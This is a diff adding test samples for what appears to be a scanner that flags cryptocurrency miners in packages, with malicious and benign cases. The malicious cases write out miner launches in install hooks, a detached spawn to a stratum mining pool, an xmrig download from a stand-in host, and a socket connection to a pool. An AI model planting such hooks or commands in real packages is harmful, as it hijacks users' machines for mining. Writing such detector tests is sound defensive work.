@@ -1,0 +1,46 @@
+import type { Samples } from '../contract.ts';
+import { at, HOOK_LINE, hooked, imported, installed, quiet } from '../samples-kit.ts';
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'a miner in a hook',
+      files: hooked('./jsextension -k --tls -o pool.weir.test:443 --donate-level 1'),
+      expected: [at('miner', 'critical', 'package.json', HOOK_LINE)],
+    },
+    {
+      name: 'a pool in a started command',
+      files: installed(
+        `require('child_process').spawn('./lib/m', ['-o', 'stratum+tcp://pool.weir.test:3333'], { detached: true });\n`,
+      ),
+      expected: [at('pool', 'critical', 'setup.js', 1), at('pool', 'high', 'setup.js', 1)],
+    },
+    {
+      name: 'a miner that is fetched first',
+      files: imported(
+        `const cp = require('child_process');\nconst url = 'https://dl.weir.test/xmrig-6.tar.gz';\ncp.execSync('tar xf - ' + url);\n`,
+      ),
+      expected: [at('miner', 'high', 'index.js', 3), at('miner', 'medium', 'index.js', 2)],
+    },
+    {
+      name: 'a pool spoken to over a socket',
+      files: installed(
+        `const pool = 'stratum+tcp://pool.weir.test:3333';\nrequire('net').connect(3333, pool.slice(14));\n`,
+      ),
+      expected: [at('pool', 'high', 'setup.js', 1)],
+    },
+  ],
+  benign: [
+    quiet('a chart of coins', imported(`module.exports = { xmr: 'Monero', algo: 'randomx' };\n`)),
+    quiet(
+      'a list of processes to look for',
+      imported(
+        `const cp = require('child_process');\nmodule.exports = (name) => cp.execFileSync('ps', ['-C', name]);\nmodule.exports.known = ['node', 'nginx'];\n`,
+      ),
+    ),
+    quiet('a pool in the documentation', {
+      ...imported('module.exports = 1;\n'),
+      'README.md': 'stratum+tcp://pool.weir.test:3333\n',
+    }),
+  ],
+};
